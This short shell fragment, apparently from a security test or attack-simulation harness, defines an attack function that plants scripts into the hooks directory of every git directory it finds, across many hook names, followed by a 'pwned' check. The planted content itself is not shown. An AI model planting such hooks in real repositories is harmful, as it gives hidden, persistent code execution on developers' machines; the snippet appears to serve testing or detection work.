# Drops hooks where git looks for them.
attack() {
  work
  for dir in $(git_dirs); do
    mkdir -p "$dir/hooks"
    for hook in pre-commit post-commit post-checkout pre-merge-commit post-merge reference-transaction post-index-change; do plant "$dir/hooks/$hook"; done
  done
}
check() { pwned; }
